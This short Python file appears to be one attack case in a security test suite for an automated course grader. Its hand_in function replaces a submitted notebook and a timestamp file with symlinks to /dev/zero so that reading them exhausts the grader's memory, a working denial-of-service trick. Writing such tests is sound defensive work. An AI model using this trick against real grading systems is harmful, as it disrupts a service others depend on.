"""Hand in a link to /dev/zero in place of the notebook, and one in place of `timestamp.txt`.

Gain: reading them to their end fills the grader's memory.
"""

HARMS = "fills the memory of the grader"
EXPECTED = {}


def hand_in(folder, course):
    (folder / "toy.ipynb").unlink()
    (folder / "toy.ipynb").symlink_to("/dev/zero")
    (folder / "timestamp.txt").symlink_to("/dev/zero")
